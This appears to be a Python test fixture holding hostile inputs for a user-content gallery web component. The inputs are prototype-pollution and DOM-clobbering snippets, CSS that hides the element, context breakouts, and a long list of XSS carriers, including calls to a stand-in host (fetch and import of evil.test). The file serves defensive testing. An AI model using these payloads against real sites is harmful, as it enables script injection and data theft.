"""Shops' pages and visitors' texts that would break the element if they could: plain data and one seeded mixer."""

from __future__ import annotations

import random

POLLUTED = """
Object.assign(Object.prototype, {
  src: "//evil.test/x", href: "//evil.test/x", url: "//evil.test", method: "PUT", body: "x", mode: "closed", integrity: "sha256-x",
  root: 1, rootMargin: "x", signal: 1, key: "evil", items: [1], products: [1], media: [1], once: true, capture: true,
  extends: "div", is: "evil", layout: "evil", consent: "granted", style: "currency", currency: "x",
});
Array.prototype.evil = "//evil.test";
for (const name of ["own", "make", "track", "quietly", "LABELS", "tracker", "gallery"]) window[name] = "//evil.test";
"""
STYLE = """<style>
body * { all: unset !important }
ugc-gallery, ugc-gallery * { display: none !important; visibility: hidden !important }
[part], .root, .grid, .tile, dialog { position: fixed !important; left: -9999px !important }
</style>"""
CLOBBERING = """
<form id="ugc"><input name="config"><input name="track"></form>
<a id="LABELS"></a><a id="LABELS" name="more" href="//evil.test"></a>
<img name="currentScript" alt=""><iframe name="tracker" srcdoc=""></iframe><object id="customElement"></object>
"""

# Ways out of the place where a text stands.
BREAKOUTS = (
    "", '"', "'", "`", '">', "'>", "-->", "]]>", "</script>", "</style>", "</textarea>", "</title>", "</template>", '\\"',
    "&quot;>",
)  # fmt: skip
# What would run, were it read as markup; `#` is the call.
CARRIERS = (
    "<img src=x onerror=#>",
    "<img src=x onerror\t=\t#>",
    "<svg/onload=#>",
    "<svg><animate onbegin=# attributeName=x>",
    "<script>#</script>",
    "<ScRiPt >#</sCrIpT>",
    "<<script>#//<</script>",
    "<body onload=#>",
    "<details open ontoggle=#>",
    "<input autofocus onfocus=#>",
    "<ugc-gallery tabindex=1 autofocus onfocus=#>",
    "<form><button formaction=javascript:#>",
    '<a href="javascript:#">x</a>',
    "<a href='java\nscript:#'>x</a>",
    "javascript:#//",
    "<base href=javascript:#//>",
    "<meta http-equiv=refresh content='0;javascript:#'>",
    '<math><mi xlink:href="javascript:#">x',
    '<iframe srcdoc="<script>#</script>">',
    '<object data="data:text/html,<script>#</script>">',
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=#>",
    "<template><img src=x onerror=#></template>",
    "&lt;img src=x onerror=#&gt;",
    "&#x3c;script&#x3e;#&#x3c;/script&#x3e;",
    "\\u003cscript\\u003e#\\u003c/script\\u003e",
    "\u202e<marquee onstart=#>",
    "${#}",
    "{{#}}",
)
CALLS = (
    "alert(1)", "alert`1`", "top['al'+'ert'](1)", "confirm(1)", "(0,eval)('alert(1)')", "import('//evil.test/x')",
    "fetch('//evil.test')",
)  # fmt: skip

IN_GALLERY = "document.querySelector('ugc-gallery').shadowRoot"
TEXTS = f"['caption', 'creator', 'card'].map(part => {IN_GALLERY}.querySelector(`dialog [part=${{part}}]`).textContent)"
MARKUP = "script,iframe,object,style,base,meta,template,marquee,form,math,[onerror],[href^=javascript]"
RUNS = f"!!{IN_GALLERY}.querySelector('{MARKUP}')"


def attacks(count: int) -> list[str]:
    """Every carrier at least once, each with a way out and a call drawn by seed."""
    chance = random.Random(40)
    carriers = [*CARRIERS, *chance.choices(CARRIERS, k=count - len(CARRIERS))]
    return [chance.choice(BREAKOUTS) + carrier.replace("#", chance.choice(CALLS)) for carrier in carriers]
